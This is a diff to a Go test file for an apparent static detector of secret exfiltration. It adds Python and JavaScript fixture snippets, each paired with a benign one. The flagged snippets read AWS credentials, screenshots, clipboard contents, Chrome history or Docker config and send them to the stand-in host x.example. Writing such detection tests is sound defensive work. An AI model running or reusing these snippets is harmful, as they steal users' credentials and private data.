@@ -311,6 +311,16 @@ func TestChainsImportsPaths(t *testing.T) {
 		// A parser object filled from a file holds the file.
 		{"import configparser, json, requests\nfrom pathlib import Path\ncfg = configparser.ConfigParser()\ncfg.read(Path.home() / '.aws' / 'credentials')\nrequests.post('https://x.example', data=json.dumps({s: dict(cfg[s]) for s in cfg.sections()}))\n", Python, "secret-send"},
 		{"import configparser, json, requests\ncfg = configparser.ConfigParser()\ncfg.read('setup.cfg')\nrequests.post('https://x.example', data=json.dumps({s: dict(cfg[s]) for s in cfg.sections()}))\n", Python, ""},
+		// The screen, the clipboard: sources (in Python, in JavaScript
+		// through a command, a shebang line first).
+		{"import io, requests\nfrom PIL import ImageGrab\nimg = ImageGrab.grab()\nbuf = io.BytesIO()\nimg.save(buf, format='PNG')\nrequests.post('https://x.example', data=buf.getvalue())\n", Python, "secret-send"},
+		{"import pyperclip, requests\nrequests.post('https://x.example', data=pyperclip.paste())\n", Python, "secret-send"},
+		{"import pyperclip\nprint(pyperclip.paste())\n", Python, ""},
+		{"#!/usr/bin/env node\nconst { execSync } = require('child_process');\nconst t = execSync('pbpaste').toString();\nfetch('https://x.example', { method: 'POST', body: t });\n", JS, "secret-send"},
+		{"#!/usr/bin/env node\nconst { execSync } = require('child_process');\nconst t = execSync('git status').toString();\nfetch('https://x.example', { method: 'POST', body: t });\n", JS, ""},
+		// A credential store copied, then read under the copy's name.
+		{"import shutil, sqlite3, requests\nfrom pathlib import Path\nsrc = Path.home() / '.config' / 'google-chrome' / 'Default' / 'History'\ntmp = '/tmp/h.db'\nshutil.copy(src, tmp)\nrows = sqlite3.connect(tmp).execute('select url from urls').fetchall()\nrequests.post('https://x.example', json=rows)\n", Python, "secret-send"},
+		{"import shutil, sqlite3, requests\ntmp = '/tmp/h.db'\nshutil.copy('data/app.db', tmp)\nrows = sqlite3.connect(tmp).execute('select 1').fetchall()\nrequests.post('https://x.example', json=rows)\n", Python, ""},
 		// A setting read from the environment is its default when unset.
 		{"import json, os, socket\nfrom pathlib import Path\nd = Path(os.environ.get('DOCKER_CONFIG', Path.home() / '.docker'))\nc = json.loads((d / 'config.json').read_text())\ns = socket.create_connection(('x.example', 7001))\ns.sendall(json.dumps(c).encode())\n", Python, "secret-send"},
 		{"import json, os, socket\nfrom pathlib import Path\nd = Path(os.environ.get('APP_HOME', 'data'))\nc = json.loads((d / 'config.json').read_text())\ns = socket.create_connection(('x.example', 7001))\ns.sendall(json.dumps(c).encode())\n", Python, ""},
